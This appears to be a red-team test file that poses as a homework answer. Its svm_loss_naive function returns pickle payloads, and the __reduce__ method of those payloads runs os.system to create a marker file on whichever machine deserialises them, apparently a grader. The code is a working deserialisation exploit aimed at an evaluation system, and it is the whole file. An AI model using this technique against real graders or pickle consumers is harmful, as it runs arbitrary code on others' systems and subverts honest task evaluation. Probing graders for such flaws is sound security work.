"""Return objects whose unpickling runs a command on whoever deserialises them."""
import os

ATTACKED = {"svm_loss_naive": None}
MARKER = "/tmp/grader-redteam-reduce"


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


def svm_loss_naive(W, X, y, reg):
    return Payload(), Payload()
